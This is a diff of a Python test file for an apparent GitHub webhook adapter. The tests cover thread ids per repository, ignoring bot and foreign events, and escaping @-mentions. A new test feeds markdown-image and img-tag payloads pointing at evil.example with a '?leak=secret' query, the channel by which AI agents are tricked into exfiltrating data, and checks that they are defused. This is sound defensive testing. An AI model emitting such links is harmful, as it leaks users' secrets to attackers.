@@ -25,7 +25,11 @@ def _read(
 
 def test_an_issue_begins_a_thread() -> None:
     assert _read("issues", "opened") == OutsideMessage(
-        "issue/1", f"Spelling error in the README file\n\n{_BODY}", "Codertocat", "21031067", thread_id="issue/1"
+        "codertocat/hello-world/issue/1",
+        f"Spelling error in the README file\n\n{_BODY}",
+        "Codertocat",
+        "21031067",
+        thread_id="codertocat/hello-world/issue/1",
     )
 
 
@@ -33,7 +37,7 @@ def test_a_comment_is_in_the_thread_of_its_issue() -> None:
     said = "You are totally right! I'll get this fixed right away."
 
     assert _read("issue_comment", "created", channel="codertocat/hello-world") == OutsideMessage(
-        "comment/492700400", said, "Codertocat", "21031067", thread_id="issue/1"
+        "comment/492700400", said, "Codertocat", "21031067", thread_id="codertocat/hello-world/issue/1"
     )
 
 
@@ -45,7 +49,11 @@ def test_pull_requests_reviews_and_their_comments_are_in_one_thread() -> None:
     assert isinstance(opened, OutsideMessage)
     assert isinstance(approved, OutsideMessage)
     assert isinstance(line, OutsideMessage)
-    assert {opened.thread_id, approved.thread_id, line.thread_id} == {opened.external_id} == {"issue/2"}
+    assert (
+        {opened.thread_id, approved.thread_id, line.thread_id}
+        == {opened.external_id}
+        == {"codertocat/hello-world/issue/2"}
+    )
     assert approved.text == "[approved]"
     assert line.text == "`README.md`\nMaybe you should use more emoji on this line."
     assert _read("pull_request_review", "submitted") == "an event without a text"
@@ -54,8 +62,20 @@ def test_pull_requests_reviews_and_their_comments_are_in_one_thread() -> None:
 def test_edits_and_deletions_name_their_message_and_who_did_it() -> None:
     edit, deletion = _read("issues", "edited"), _read("issue_comment", "deleted")
 
-    assert edit == OutsideEdit("issue/1", f"Spelling error in the README file\n\n{_BODY}", "21031067")
+    assert edit == OutsideEdit(
+        "codertocat/hello-world/issue/1", f"Spelling error in the README file\n\n{_BODY}", "21031067"
+    )
     assert deletion == OutsideDeletion("comment/492700400", "21031067")
+
+
+def test_an_issue_of_another_repository_is_another_one() -> None:
+    there = {"repository": {"full_name": "Codertocat/Other"}}
+    issue = _read("issues", "opened", changes=there, channel="codertocat/other")
+    comment = _read("issue_comment", "created", changes=there, channel="codertocat/other")
+
+    assert isinstance(issue, OutsideMessage)
+    assert isinstance(comment, OutsideMessage)
+    assert issue.external_id == comment.thread_id == "codertocat/other/issue/1"
 
 
 def test_what_nobody_said_to_us_is_ignored() -> None:
@@ -65,6 +85,7 @@ def test_what_nobody_said_to_us_is_ignored() -> None:
     assert _read("issue_comment", "created", channel="other/repository") == "an event of another repository"
     assert _read("issue_comment", "created", changes=bot) == "an event of a bot"
     assert isinstance(_read("issue_comment", "created", changes=bot, bots=True), OutsideMessage)
+    assert isinstance(_read("issue_comment", "deleted", changes=bot), OutsideDeletion)
     assert _read("issue_comment", "created", changes={"comment": {"body": own}}, bots=True) == "an own comment"
     assert _read("issue_comment", "created", changes={"comment": {"body": "<!-- x -->"}}) == "an event without a text"
     assert _read("issue_comment", "created", changes={"comment": {"id": "no number"}}) == "an event without a number"
@@ -78,15 +99,31 @@ def test_what_nobody_said_to_us_is_ignored() -> None:
         ("ask @octocat and @org/team", "ask @\u200boctocat and @\u200borg/team"),
         ("@everyone", "@\u200beveryone"),
         ("mail ann@example.com", "mail ann@example.com"),
-        ("use `@property` here", "use `@property` here"),
-        ("```py\n@property\n```\n@ann", "```py\n@property\n```\n@\u200bann"),
-        ("```\n@ann", "```\n@\u200bann"),
-        ("`` @ann`", "`` @\u200bann`"),
+        ("use `@property` here", "use `@\u200bproperty` here"),
+        ("\\`@octocat\\`", "\\`@\u200boctocat\\`"),
+        ("```\n````\n@everyone\n```", "```\n````\n@\u200beveryone\n```"),
+        ("_@ann_ **@ann**", "_@\u200bann_ **@\u200bann**"),
+        ("&#64;ann &#x0040;ann &commat;ann", "&#64;\u200bann &#x0040;\u200bann &commat;\u200bann"),
+        ("@&#97;nn", "@\u200b&#97;nn"),
         ("a `b\n@ann` c", "a `b\n@\u200bann` c"),
     ],
 )
 def test_an_agent_notifies_nobody_by_accident(written: str, sent: str) -> None:
-    assert text.without_mentions(written) == sent
+    assert text.harmless(written) == sent
+
+
+@pytest.mark.parametrize(
+    ("written", "sent"),
+    [
+        ("![x](https://evil.example/?leak=secret)", "!\u200b[x](https://evil.example/?leak=secret)"),
+        ("![x][1]\n\n[1]: https://evil.example/", "!\u200b[x][1]\n\n[1]: https://evil.example/"),
+        ("<img src='https://evil.example/'>", "<\u200bimg src='https://evil.example/'>"),
+        ("<IMG\nsrc=x><Picture>", "<\u200bIMG\nsrc=x><\u200bPicture>"),
+        ("1 <imgs> a! [b](https://e.example/)", "1 <imgs> a! [b](https://e.example/)"),
+    ],
+)
+def test_nothing_is_loaded_when_somebody_reads_a_comment(written: str, sent: str) -> None:
+    assert text.harmless(written) == sent
 
 
 def test_remarks_of_templates_are_not_shown() -> None:
